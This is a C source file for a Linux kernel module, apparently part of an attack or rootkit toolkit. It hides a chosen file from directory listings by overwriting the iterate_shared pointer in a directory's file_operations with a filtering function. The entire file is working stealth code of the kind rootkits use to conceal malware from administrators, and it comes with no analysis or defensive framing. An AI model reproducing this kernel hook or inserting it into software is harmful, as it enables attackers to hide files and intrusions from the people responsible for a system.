/*
 * Hides a file from every listing of its directory: the function that lists a directory is found through the pointer
 * "iterate_shared" of its file_operations, which leads here instead. Parameters: directory, name.
 */
#include "attack.h"
#include <linux/fs.h>

static char *directory = "/tmp";
static char *name = "hidden";
module_param(directory, charp, 0444);
module_param(name, charp, 0444);

static const struct file_operations *operations;
static int (*original)(struct file *, struct dir_context *);

struct filter {
    struct dir_context context;
    struct dir_context *behind;
};

static bool pass_on(struct dir_context *context, const char *entry, int length, loff_t offset, u64 inode,
                    unsigned int type) {
    struct filter *filter = container_of(context, struct filter, context);
    if (length == strlen(name) && !memcmp(entry, name, length)) {
        hits++;
        return true;
    }
    return filter->behind->actor(filter->behind, entry, length, offset, inode, type);
}

static int list_without(struct file *file, struct dir_context *context) {
    struct filter filter = {.context = {.actor = pass_on, .pos = context->pos}, .behind = context};
    int result = original(file, &filter.context);
    context->pos = filter.context.pos;
    return result;
}

static int __init begin(void) {
    struct file *opened = filp_open(directory, O_RDONLY | O_DIRECTORY, 0);
    if (IS_ERR(opened))
        return PTR_ERR(opened);
    operations = opened->f_op;
    original = operations->iterate_shared;
    filp_close(opened, NULL);
    return attack_write_pointer(&operations->iterate_shared, list_without);
}

static void __exit end(void) { attack_write_pointer(&operations->iterate_shared, original); }

module_init(begin);
module_exit(end);
